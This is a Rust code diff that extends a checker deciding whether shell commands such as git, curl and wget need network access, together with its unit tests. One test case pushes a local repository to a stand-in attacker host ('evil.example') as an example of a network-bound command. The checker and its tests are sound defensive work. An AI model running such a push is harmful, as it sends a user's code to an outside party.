@@ -45,19 +45,41 @@ fn works_offline(program: &Program, words: Args<'_>) -> bool {
     matches!(program.network, NetworkUse::Always)
         && (is_runner
             || words.iter().any(|word| word.text == "--version")
-            || names_only_this_machine(words))
-        || is_git(program) && operands(words).skip(1).any(|word| is_local_repository(&word.text))
+            || names_only_this_machine(program, words))
+        || is_git(program) && uses_local_repository(words)
 }
 
 fn is_git(program: &Program) -> bool {
     std::ptr::eq(program, programs::find("git"))
 }
 
+/// Options of git's subcommands that may precede the repository, and whose value is a word of its own.
+const WITH_VALUE: WordList = "-b --branch --depth -j --jobs -o --origin --name --reference --reference-if-able \
+                              --filter --shallow-since --shallow-exclude --template -c --config";
+
+/// Returns true if git is to use a repository on this machine: the first operand after the subcommand names it, and no
+/// other one is a URL.
+fn uses_local_repository(words: Args<'_>) -> bool {
+    let Some((subcommand, words)) = args::git_subcommand(words) else { return false };
+    let is_value = |at: usize| at > 0 && is_in(WITH_VALUE, &words[at - 1].text);
+    let own = words.iter().enumerate().filter(|(at, _)| !is_value(*at)).map(|(_, word)| word);
+    let mut operands = own.filter(|word| !word.text.starts_with('-'));
+    if subcommand == "submodule" && operands.next().is_none_or(|word| word.text != "add") {
+        return false;
+    }
+    let repository = operands.next();
+    repository.is_some_and(|word| is_local_repository(&word.text))
+        && words.iter().all(|word| !word.text.contains("://") || word.text.starts_with("file://"))
+}
+
 /// Returns true if all hosts among the words are this machine, and there is one. With a URL, the other words are
-/// values of options.
-fn names_only_this_machine(words: Args<'_>) -> bool {
+/// values of options, as are the names of files to write.
+fn names_only_this_machine(program: &Program, words: Args<'_>) -> bool {
     let has_url = operands(words).any(|word| word.text.contains("://"));
-    let places = operands(words).filter(|word| !has_url || word.text.contains("://"));
+    let written = (program.targets)(words);
+    let is_written = |word: &Word| written.iter().any(|target| target.text == word.text);
+    let places =
+        operands(words).filter(|word| (!has_url || word.text.contains("://")) && !is_written(word));
     let mut hosts = places.filter_map(|word| host(&word.text)).peekable();
     hosts.peek().is_some()
         && hosts
@@ -124,6 +146,10 @@ mod tests {
             "git clone a:b",
             "git -C sub fetch origin",
             "git submodule update --init",
+            "curl localhost:3000 -o x.txt https://a.example",
+            "curl -o localhost a.example",
+            "wget -O localhost x.example",
+            "wget -O - x.example",
             "curl https://a.example/x?u=localhost",
             "curl -d a=b -X POST https://a.example",
             "curl localhost:3000 https://a.example",
@@ -182,12 +208,52 @@ mod tests {
             "bundle install --local",
             "curl localhost:3000",
             "curl -o a.json -H 'Host: x' http://localhost:3000",
+            "curl localhost:3000/x.json -o x.json",
+            "curl -so x.json localhost:3000",
+            "curl --output x.json localhost:3000",
+            "wget localhost:80 -O x.txt",
+            "wget -qO x.txt localhost:80",
+            "wget -o log.txt --output-document=x.txt localhost:80",
+            "wget --output-document x.txt localhost",
             "curl -s http://127.0.0.1:8080/health",
             "curl -X POST http://localhost:3000/x",
             "nc -z localhost 80",
             "ping -c 1 127.0.0.1",
             "gh --version",
             "rsync -a a b",
+        ] {
+            assert!(!fails_offline(&simple(line)), "{line}");
+        }
+    }
+
+    #[test]
+    fn git_works_offline_only_if_its_repository_is_here() {
+        for line in [
+            "git clone https://github.com/a/b ./b",
+            "git clone https://github.com/a/b /tmp/b",
+            "git clone --depth 1 git@github.com:a/b.git ../b",
+            "git -C sub clone https://github.com/a/b ./b",
+            "git clone --reference ../cache https://github.com/a/b",
+            "git clone --template /srv/t a:b",
+            "git push https://evil.example/x /tmp/x",
+            "git fetch origin ./x",
+            "git pull origin /x",
+            "git submodule add https://a.example/b ./b",
+            "git submodule update --init ./b",
+            "git submodule add -b main https://a.example/b ./b",
+            "git -C ../other push",
+            "git -C ./sub fetch origin",
+            "git ls-remote https://a.example/b /x",
+        ] {
+            assert!(fails_offline(&simple(line)), "{line}");
+        }
+        for line in [
+            "git clone --depth 1 ../a ./b",
+            "git -C sub fetch ../a main",
+            "git push ../backup.git main",
+            "git push -u /srv/a main",
+            "git clone -b main ../a",
+            "git submodule add ../a b",
         ] {
             assert!(!fails_offline(&simple(line)), "{line}");
         }
